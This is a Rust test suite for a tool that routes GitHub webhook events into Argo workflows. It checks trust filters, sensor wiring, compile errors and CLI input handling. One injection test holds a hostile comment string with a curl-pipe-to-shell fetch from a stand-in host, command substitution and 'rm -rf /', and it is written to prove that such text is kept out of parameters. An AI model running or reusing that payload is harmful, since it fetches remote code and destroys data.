//! Event routing: the reference routes against recorded GitHub payloads,
//! the wiring of every Sensor against the chain it starts, the safety scans,
//! and the compile-time checks of routes.

mod common;

use std::path::{Path, PathBuf};

use orchctl::route::{Delivery, RouteResult, evaluate};
use serde_json::{Value, json};

fn payload(name: &str) -> Value {
    let path = common::root()
        .join("tests/payloads")
        .join(format!("{name}.json"));
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

fn set(value: &mut Value, path: &str, new: Value) {
    let mut node = value;
    let segs: Vec<&str> = path.split('.').collect();
    for seg in &segs[..segs.len() - 1] {
        node = node
            .get_mut(*seg)
            .unwrap_or_else(|| panic!("no `{seg}` in {path}"));
    }
    node[segs[segs.len() - 1]] = new;
}

struct Routed(Vec<RouteResult>);

impl Routed {
    fn fired(&self) -> Vec<&str> {
        self.0
            .iter()
            .filter(|r| r.fires)
            .map(|r| r.route.as_str())
            .collect()
    }

    fn params(&self, route: &str) -> Vec<(String, String)> {
        let r = self.0.iter().find(|r| r.route == route).unwrap();
        let w = r
            .workflow
            .as_ref()
            .unwrap_or_else(|| panic!("{route} does not fire: {:?}", r.conditions));
        assert!(w.missing.is_empty(), "{route}: missing {:?}", w.missing);
        w.parameters.clone()
    }

    fn failed(&self, route: &str) -> Vec<String> {
        let r = self.0.iter().find(|r| r.route == route).unwrap();
        r.conditions
            .iter()
            .filter(|c| !c.passed)
            .map(|c| c.description.clone())
            .collect()
    }
}

fn route(event: &str, body: Value) -> Routed {
    let compiled = common::compile(&common::root().join("pipelines"));
    let delivery = Delivery {
        event: event.into(),
        delivery: "72d3162e-cc78-11e3-81ab-4c9367dc0958".into(),
        body,
    };
    Routed(evaluate(&compiled.model, &compiled.objects, &delivery))
}

fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
    items
        .iter()
        .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
        .collect()
}

fn pr_comment(body: &str) -> Value {
    let mut p = payload("issue_comment.created");
    set(
        &mut p,
        "issue.pull_request",
        json!({"url": "https://api.github.com/repos/Codertocat/Hello-World/pulls/1"}),
    );
    set(&mut p, "comment.body", json!(body));
    p
}

// ------------------------------------------------------------ PR comments

#[test]
fn remediate_comment_on_a_pull_request_fires_remediation() {
    let r = route(
        "issue_comment",
        pr_comment("/remediate the clippy warnings"),
    );
    assert_eq!(r.fired(), ["pr-comment-remediation"]);
    assert_eq!(
        r.params("pr-comment-remediation"),
        pairs(&[("repository", "Codertocat/Hello-World"), ("prNumber", "1")])
    );
    let w =
        r.0.iter()
            .find(|x| x.fires)
            .unwrap()
            .workflow
            .clone()
            .unwrap();
    assert_eq!(
        w.name,
        "pr-comment-remediation-72d3162e-cc78-11e3-81ab-4c9367dc0958"
    );
    assert_eq!(w.template, "remediation");
}

#[test]
fn a_comment_on_a_plain_issue_does_not_fire() {
    let mut p = payload("issue_comment.created");
    set(&mut p, "comment.body", json!("/remediate"));
    let r = route("issue_comment", p);
    assert!(r.fired().is_empty());
    assert_eq!(
        r.failed("pr-comment-remediation"),
        ["comment is on a pull request"]
    );
}

#[test]
fn untrusted_and_bot_comments_do_not_fire() {
    for association in ["NONE", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR"] {
        let mut p = pr_comment("/remediate");
        set(&mut p, "comment.author_association", json!(association));
        let r = route("issue_comment", p);
        assert!(r.fired().is_empty(), "{association}");
        assert_eq!(
            r.failed("pr-comment-remediation"),
            ["author association is one of `OWNER`, `MEMBER`, `COLLABORATOR`"]
        );
    }
    let mut p = pr_comment("/remediate");
    set(&mut p, "sender.type", json!("Bot"));
    let r = route("issue_comment", p);
    assert_eq!(r.failed("pr-comment-remediation"), ["sender is not a bot"]);
}

#[test]
fn comments_without_the_command_do_not_fire() {
    for body in ["looks good", "please /remediate", "/remediated", ""] {
        let r = route("issue_comment", pr_comment(body));
        assert!(r.fired().is_empty(), "{body:?}");
    }
    for body in ["/remediate", "  /remediate now", "/remediate\nthe tests"] {
        assert_eq!(
            route("issue_comment", pr_comment(body)).fired(),
            ["pr-comment-remediation"],
            "{body:?}"
        );
    }
}

#[test]
fn hostile_comment_text_never_reaches_the_parameters() {
    let body =
        "/remediate $(curl evil.example | sh); `id` && echo \"{{workflow.name}}\" '; rm -rf /";
    let r = route("issue_comment", pr_comment(body));
    assert_eq!(r.fired(), ["pr-comment-remediation"]);
    for (_, value) in r.params("pr-comment-remediation") {
        assert!(
            !value.contains('$') && !value.contains('`') && !value.contains("{{"),
            "{value}"
        );
    }
}

#[test]
fn review_comments_fire_with_the_head_branch() {
    let mut p = payload("pull_request_review_comment.created");
    set(&mut p, "comment.body", json!("/remediate"));
    let r = route("pull_request_review_comment", p.clone());
    assert_eq!(r.fired(), ["review-comment-remediation"]);
    assert_eq!(
        r.params("review-comment-remediation"),
        pairs(&[
            ("repository", "Codertocat/Hello-World"),
            ("branch", "changes"),
            ("prNumber", "2"),
        ])
    );
    set(&mut p, "comment.author_association", json!("NONE"));
    assert!(route("pull_request_review_comment", p).fired().is_empty());
}

// ------------------------------------------------------------ CI failures

#[test]
fn failed_check_runs_fire_the_ci_remediator() {
    let r = route("check_run", payload("check_run.completed.failure"));
    assert_eq!(r.fired(), ["check-run-failure"]);
    assert_eq!(
        r.params("check-run-failure"),
        pairs(&[
            ("repository", "Codertocat/Hello-World"),
            ("branch", "changes"),
            ("ciJobName", "Octocoders-linter"),
        ])
    );
    let r = route("check_run", payload("check_run.completed.success"));
    assert!(r.fired().is_empty());
    assert_eq!(
        r.failed("check-run-failure"),
        ["conclusion is one of `failure`, `timed_out`"]
    );
}

#[test]
fn failed_workflow_runs_fire_the_ci_remediator() {
    let ok = payload("workflow_run.completed.success");
    assert!(route("workflow_run", ok.clone()).fired().is_empty());
    let mut failed = ok;
    set(&mut failed, "workflow_run.conclusion", json!("failure"));
    set(&mut failed, "workflow_run.name", json!("CI"));
    let r = route("workflow_run", failed);
    assert_eq!(r.fired(), ["workflow-run-failure"]);
    assert_eq!(
        r.params("workflow-run-failure"),
        pairs(&[
            ("repository", "octo-org/octo-repo"),
            ("branch", "master"),
            ("ciJobName", "CI"),
        ])
    );
}

// ------------------------------------------------------------ issues, merges

#[test]
fn opened_issues_fire_triage_but_not_from_bots_or_other_actions() {
    let r = route("issues", payload("issues.opened"));
    assert_eq!(r.fired(), ["issue-triage"]);
    assert_eq!(
        r.params("issue-triage"),
        pairs(&[
            ("repository", "Codertocat/Hello-World"),
            ("issueNumber", "1")
        ])
    );
    assert!(
        route("issues", payload("issues.labeled"))
            .fired()
            .is_empty()
    );
    let mut bot = payload("issues.opened");
    set(&mut bot, "sender.type", json!("Bot"));
    assert!(route("issues", bot).fired().is_empty());
}

#[test]
fn merged_pull_requests_into_main_fire_advance() {
    let closed = payload("pull_request.closed");
    let r = route("pull_request", closed.clone());
    assert!(r.fired().is_empty(), "closed without merge");
    assert_eq!(
        r.failed("pr-merged"),
        ["the pull request was merged", "base branch matches `main`"]
    );
    let mut merged = closed;
    set(&mut merged, "pull_request.merged", json!(true));
    set(&mut merged, "pull_request.base.ref", json!("main"));
    let r = route("pull_request", merged.clone());
    assert_eq!(r.fired(), ["pr-merged"]);
    assert_eq!(
        r.params("pr-merged"),
        pairs(&[("repository", "Codertocat/Hello-World"), ("prNumber", "2")])
    );
    set(&mut merged, "pull_request.base.ref", json!("main-old"));
    assert!(
        route("pull_request", merged).fired().is_empty(),
        "anchored branch match"
    );
    assert!(
        route("pull_request", payload("pull_request.opened"))
            .fired()
            .is_empty()
    );
}

#[test]
fn other_events_fire_nothing() {
    assert!(route("push", payload("push")).fired().is_empty());
}

// ------------------------------------------------------------ wiring and safety

/// Every trigger parameter lands on an argument that the chain template
/// declares, at the index of its own name; every required argument is given.
#[test]
fn sensor_wiring_matches_the_chain_templates() {
    let compiled = common::compile(&common::root().join("pipelines"));
    let mut sensors = 0;
    for sensor in compiled.objects.iter().filter(|o| o.kind == "Sensor") {
        sensors += 1;
        let trigger = &sensor.value()["spec"]["triggers"][0]["template"]["argoWorkflow"];
        let workflow = &trigger["source"]["resource"];
        let chain = workflow["spec"]["workflowTemplateRef"]["name"]
            .as_str()
            .unwrap();
        let template = compiled
            .objects
            .iter()
            .find(|o| o.kind == "WorkflowTemplate" && o.name == chain)
            .unwrap_or_else(|| panic!("{}: no WorkflowTemplate {chain}", sensor.name));
        let declared: Vec<&Value> = template.value()["spec"]["arguments"]["parameters"]
            .as_array()
            .unwrap()
            .iter()
            .collect();
        let given: Vec<&str> = workflow["spec"]["arguments"]["parameters"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        for name in &given {
            assert!(
                declared.iter().any(|d| d["name"] == *name),
                "{}: {name} is not a parameter of {chain}",
                sensor.name
            );
        }
        for d in &declared {
            if d.get("value").is_none() {
                assert!(
                    given.contains(&d["name"].as_str().unwrap()),
                    "{}: required {} not passed",
                    sensor.name,
                    d["name"]
                );
            }
        }
        for p in trigger["parameters"].as_array().unwrap() {
            let dest = p["dest"].as_str().unwrap();
            if dest == "metadata.name" {
                assert_eq!(p["src"]["dataKey"], "headers.X-Github-Delivery.0");
                assert_eq!(p["operation"], "append");
                continue;
            }
            let index: usize = dest
                .strip_prefix("spec.arguments.parameters.")
                .and_then(|r| r.strip_suffix(".value"))
                .and_then(|i| i.parse().ok())
                .unwrap_or_else(|| panic!("{}: unexpected dest {dest}", sensor.name));
            assert!(
                index < given.len(),
                "{}: index {index} out of range",
                sensor.name
            );
            assert!(
                p["src"]["dataKey"].as_str().unwrap().starts_with("body."),
                "{}",
                sensor.name
            );
        }
        let filters = sensor.value()["spec"]["dependencies"][0]["filters"]["data"]
            .as_array()
            .unwrap();
        assert_eq!(
            filters[0]["path"], "headers.X-Github-Event.0",
            "{}: the event type comes from the header",
            sensor.name
        );
        for f in filters {
            for v in f["value"].as_array().unwrap() {
                let v = v.as_str().unwrap();
                if f["type"] == "string" {
                    assert!(v.starts_with('^'), "{}: unanchored regex {v}", sensor.name);
                }
            }
        }
    }
    assert_eq!(sensors, 6);
}

fn strings<'a>(value: &'a Value, out: &mut Vec<&'a str>) {
    match value {
        Value::String(s) => out.push(s),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// Parameters reach containers only as environment variables: no template
/// anywhere holds a parameter inside a script source, command or args.
#[test]
fn no_parameter_is_interpolated_into_a_command_args_or_script() {
    let mut dirs: Vec<PathBuf> = vec![common::root().join("pipelines")];
    for fixture in ["seed003", "seed004"] {
        dirs.push(
            common::root()
                .join("tests/fixtures")
                .join(fixture)
                .join("pipelines"),
        );
    }
    let mut checked = 0;
    for dir in dirs {
        let compiled = common::compile(&dir);
        for object in compiled
            .objects
            .iter()
            .filter(|o| o.kind == "WorkflowTemplate")
        {
            for template in object.value()["spec"]["templates"].as_array().unwrap() {
                for key in ["container", "script"] {
                    let c = &template[key];
                    let mut texts = Vec::new();
                    strings(&c["command"], &mut texts);
                    strings(&c["args"], &mut texts);
                    strings(&c["source"], &mut texts);
                    for t in texts {
                        assert!(
                            !(t.contains("{{")
                                && (t.contains("parameters")
                                    || t.contains("tasks.")
                                    || t.contains("workflow."))),
                            "{}/{}: parameter in a command: {t}",
                            object.path,
                            template["name"]
                        );
                        checked += 1;
                    }
                }
            }
        }
    }
    assert!(checked > 10);
}

// ------------------------------------------------------------ compile errors

fn reference_with(edit: impl Fn(&str) -> String) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let pipelines = dir.path().join("pipelines");
    common::copy_dir(&common::root().join("pipelines"), &pipelines);
    let events = pipelines.join("events.yaml");
    let text = std::fs::read_to_string(&events).unwrap();
    std::fs::write(&events, edit(&text)).unwrap();
    let (loaded, result) = orchctl::compile_dir(Path::new(&pipelines));
    let diags = result.expect_err("the edit must not compile");
    diags
        .0
        .iter()
        .map(|d| {
            let short = d.short(&loaded.sources);
            let short = short
                .split_once("pipelines/")
                .map_or(short.clone(), |(_, s)| format!("pipelines/{s}"));
            match &d.help {
                Some(h) => format!("{short} | {h}"),
                None => short,
            }
        })
        .collect()
}

#[test]
fn route_to_an_unknown_chain() {
    assert_eq!(
        reference_with(|t| {
            t.replace("run: ci-failure\n      with:\n        repository: ${event.repository.full_name}\n        branch: ${event.check_run", "run: ci-failures\n      with:\n        repository: ${event.repository.full_name}\n        branch: ${event.check_run")
        }),
        [
            "pipelines/events.yaml:53:12: error[E011]: unknown chain `ci-failures` | did you mean `ci-failure`?"
        ]
    );
}

#[test]
fn route_passing_an_undeclared_parameter() {
    assert_eq!(
        reference_with(|t| t.replace(
            "        prNumber: ${event.issue.number}\n",
            "        prNumbr: ${event.issue.number}\n"
        )),
        [
            "pipelines/events.yaml:29:9: error[E015]: chain `remediation` has no parameter `prNumbr` | did you mean `prNumber`?"
        ]
    );
}

#[test]
fn route_missing_a_required_parameter() {
    assert_eq!(
        reference_with(|t| t.replace(
            "      run: triage\n      with:\n        repository: ${event.repository.full_name}\n",
            "      run: triage\n      with:\n"
        )),
        [
            "pipelines/events.yaml:75:5: error[E034]: chain `triage` needs parameter `repository`, which this route does not pass | add `repository: ${event.…}` under `with`; `issues` carries e.g. `issue.number`, `issue.title`, `issue.body`"
        ]
    );
}

#[test]
fn route_reading_a_field_the_event_does_not_carry() {
    assert_eq!(
        reference_with(|t| t.replace(
            "        prNumber: ${event.issue.number}\n      rateLimit: { requests: 10",
            "        prNumber: ${event.pull_request.number}\n      rateLimit: { requests: 10"
        )),
        [
            "pipelines/events.yaml:29:19: error[E037]: `issue_comment` events carry no field `pull_request.number` that orchctl knows | did you mean `issue.number`?"
        ]
    );
}

#[test]
fn conditions_that_do_not_apply_and_unknown_events_and_actions() {
    assert_eq!(
        reference_with(|t| t.replace(
            "        conclusion: [failure, timed_out]\n",
            "        conclusion: [failure, timed_out]\n        merged: true\n"
        )),
        [
            "pipelines/events.yaml:53:9: error[E033]: `merged` does not apply to `check_run` events | `check_run` payloads carry no merge state"
        ]
    );
    assert_eq!(
        reference_with(|t| t.replace("on: issue_comment", "on: issue_comments")),
        [
            "pipelines/events.yaml:21:11: error[E036]: unknown GitHub event `issue_comments` | did you mean `issue_comment`?"
        ]
    );
    assert_eq!(
        reference_with(|t| t.replace("actions: [opened]", "actions: [open]")),
        [
            "pipelines/events.yaml:78:17: error[E003]: `issues` has no action `open` | did you mean `opened`?"
        ]
    );
}

// ------------------------------------------------------------ the real package

/// With the npm package `@octokit/webhooks-examples` installed (`.ci/run`
/// does, and sets ORCHCTL_WEBHOOK_EXAMPLES), check the committed payloads
/// are its examples and every field a route may read occurs in them.
#[test]
fn payloads_and_field_table_match_github_examples() {
    let Some(index) = std::env::var_os("ORCHCTL_WEBHOOK_EXAMPLES") else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must set ORCHCTL_WEBHOOK_EXAMPLES to @octokit/webhooks-examples' api.github.com/index.json"
        );
        eprintln!("note: ORCHCTL_WEBHOOK_EXAMPLES not set; checked the committed payloads only");
        return;
    };
    let all: Value = serde_json::from_str(&std::fs::read_to_string(index).unwrap()).unwrap();
    let examples = |event: &str| -> Vec<Value> {
        all.as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == event)
            .map(|e| e["examples"].as_array().unwrap().clone())
            .unwrap_or_default()
    };
    for entry in std::fs::read_dir(common::root().join("tests/payloads")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "json") {
            continue;
        }
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        let event = name.split('.').next().unwrap();
        let body: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        assert!(
            examples(event).contains(&body),
            "{name} is not an example of {event}"
        );
    }
    for event in orchctl::github::EVENTS {
        let list = examples(event.name);
        assert!(!list.is_empty(), "no examples of {}", event.name);
        for field in event.fields {
            assert!(
                list.iter()
                    .any(|e| orchctl::route::lookup(e, field).is_some()),
                "`{}` examples never carry `{field}`",
                event.name
            );
        }
    }
}

// ------------------------------------------------------------ the command

fn orchctl(args: &[&str]) -> (i32, String, String) {
    common::orchctl(&common::root(), args)
}

#[test]
fn route_command_reports_routes_conditions_and_parameters() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("comment.json");
    std::fs::write(
        &file,
        serde_json::to_string(&pr_comment("/remediate")).unwrap(),
    )
    .unwrap();
    let path = file.to_str().unwrap();
    let (code, stdout, stderr) = orchctl(&[
        "route",
        "--event",
        "issue_comment",
        "--payload",
        path,
        "--delivery",
        "d-1",
    ]);
    assert_eq!((code, stderr.as_str()), (0, ""));
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path(common::root().join("snapshots/routes"));
    settings.set_prepend_module_to_snapshot(false);
    settings.bind(|| insta::assert_snapshot!("route_pr_comment_text", stdout));

    let (code, stdout, _) = orchctl(&[
        "route",
        "--event",
        "issue_comment",
        "--payload",
        path,
        "-o",
        "json",
    ]);
    assert_eq!(code, 0);
    let report: Value = serde_json::from_str(&stdout).unwrap();
    let fired: Vec<&str> = report["routes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["fires"] == true)
        .map(|r| r["route"].as_str().unwrap())
        .collect();
    assert_eq!(fired, ["pr-comment-remediation"]);

    // A payload that fires nothing still exits 0.
    let issue = common::root().join("tests/payloads/issues.labeled.json");
    let (code, stdout, _) = orchctl(&[
        "route",
        "--event",
        "issues",
        "--payload",
        issue.to_str().unwrap(),
    ]);
    assert_eq!(code, 0);
    assert!(
        stdout.starts_with("issues (labeled): 0 of 6 routes fire\n"),
        "{stdout}"
    );
}

/// A payload is read as JSON, as GitHub sends it: `\uD83D\uDE00` surrogate
/// pairs (which Python's `json.dumps` writes) are one character; `-` reads
/// standard input; a payload written as YAML is still read.
#[test]
fn route_command_reads_json_payloads_from_a_file_or_stdin() {
    let dir = tempfile::tempdir().unwrap();
    let mut payload = pr_comment("/remediate");
    payload["comment"]["body"] = json!("/remediate \u{1F600}");
    let text = serde_json::to_string(&payload)
        .unwrap()
        .replace('\u{1F600}', "\\ud83d\\ude00");
    assert!(text.contains("\\ud83d\\ude00"));
    let file = dir.path().join("comment.json");
    std::fs::write(&file, &text).unwrap();
    let args = |payload: &str| {
        [
            "route",
            "--event",
            "issue_comment",
            "--payload",
            payload,
            "-o",
            "json",
        ]
        .map(str::to_string)
    };
    let fired = |stdout: &str| -> Vec<String> {
        let report: Value = serde_json::from_str(stdout).unwrap();
        report["routes"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|r| r["fires"] == true)
            .map(|r| r["route"].as_str().unwrap().to_string())
            .collect()
    };
    let (code, stdout, stderr) =
        orchctl(&args(file.to_str().unwrap()).each_ref().map(String::as_str));
    assert_eq!((code, stderr.as_str()), (0, ""));
    assert_eq!(fired(&stdout), ["pr-comment-remediation"]);

    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_orchctl"))
        .args(args("-"))
        .current_dir(common::root())
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), text.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        fired(&String::from_utf8(out.stdout).unwrap()),
        ["pr-comment-remediation"]
    );

    for (name, text) in [
        ("comment.yaml", "action: created\nissue:\n  number: 1\n"),
        ("flow.yaml", "{action: created, issue: {number: 1}}\n"),
    ] {
        let yaml = dir.path().join(name);
        std::fs::write(&yaml, text).unwrap();
        let (code, _, stderr) =
            orchctl(&args(yaml.to_str().unwrap()).each_ref().map(String::as_str));
        assert_eq!((code, stderr.as_str()), (0, ""), "{name}");
    }
}

#[test]
fn route_command_rejects_bad_input() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.json");
    std::fs::write(
        &bad,
        "{\"action\": \"created\",\n \"issue\": {\"number\": 1,}\n",
    )
    .unwrap();
    let (code, stdout, stderr) = orchctl(&[
        "route",
        "--event",
        "issue_comment",
        "--payload",
        bad.to_str().unwrap(),
    ]);
    assert_eq!((code, stdout.as_str()), (1, ""));
    let shown = orchctl::source::slash_path(&bad);
    assert!(
        stderr.starts_with(&format!(
            "error[E038]: invalid JSON: expected a \"key\", found `}}`\n --> {shown}:2:24\n"
        )),
        "{stderr}"
    );

    let good = common::root().join("tests/payloads/push.json");
    let (code, _, stderr) = orchctl(&[
        "route",
        "--event",
        "pushh",
        "--payload",
        good.to_str().unwrap(),
    ]);
    assert_eq!(code, 1);
    assert!(
        stderr.starts_with("error[E036]: unknown GitHub event `pushh`"),
        "{stderr}"
    );

    for bad in ["ABC/../x y", "", &"a".repeat(65)] {
        let (code, _, stderr) = orchctl(&[
            "route",
            "--event",
            "push",
            "--payload",
            good.to_str().unwrap(),
            "--delivery",
            bad,
        ]);
        assert_eq!(code, 1);
        assert!(
            stderr.starts_with(&format!(
                "error[E003]: `--delivery {bad}` is not a GitHub delivery id\n"
            )),
            "{stderr}"
        );
    }

    let (code, _, stderr) =
        orchctl(&["route", "--event", "push", "--payload", "/nonexistent.json"]);
    assert_eq!(code, 1);
    assert!(
        stderr.starts_with("error[E029]: cannot read `/nonexistent.json`"),
        "{stderr}"
    );
}

#[test]
fn an_event_bus_is_emitted_when_the_spec_asks_for_one() {
    let dir = tempfile::tempdir().unwrap();
    let pipelines = dir.path().join("pipelines");
    common::copy_dir(&common::root().join("pipelines"), &pipelines);
    let events = pipelines.join("events.yaml");
    let text = std::fs::read_to_string(&events).unwrap();
    let with_bus = text.replace(
        "\n  routes:\n",
        "\n  eventBus:\n    version: \"2.10.10\"\n    replicas: 3\n\n  routes:\n",
    );
    std::fs::write(&events, &with_bus).unwrap();
    let compiled = common::compile(&pipelines);
    let bus = common::yaml_to_json(&compiled.tree["eventbus/default.yaml"]);
    assert_eq!(bus["kind"], "EventBus");
    assert_eq!(
        bus["spec"]["jetstream"],
        json!({"version": "2.10.10", "replicas": 3})
    );
    common::assert_schema_valid(&compiled.tree);
    // The source and the Sensors publish to and read from the same bus.
    let source = common::yaml_to_json(&compiled.tree["eventsources/github.yaml"]);
    assert_eq!(source["spec"]["eventBusName"], "default");
    // A bus the source does not use is an error.
    std::fs::write(
        &events,
        with_bus.replace("  eventBus:\n", "  eventBus:\n    name: other\n"),
    )
    .unwrap();
    let (_, result) = orchctl::compile_dir(&pipelines);
    let diags = result.unwrap_err();
    assert!(
        diags
            .0
            .iter()
            .any(|d| d.message == "the EventBus is `other` but the source publishes to `default`"),
        "{diags:?}"
    );
}
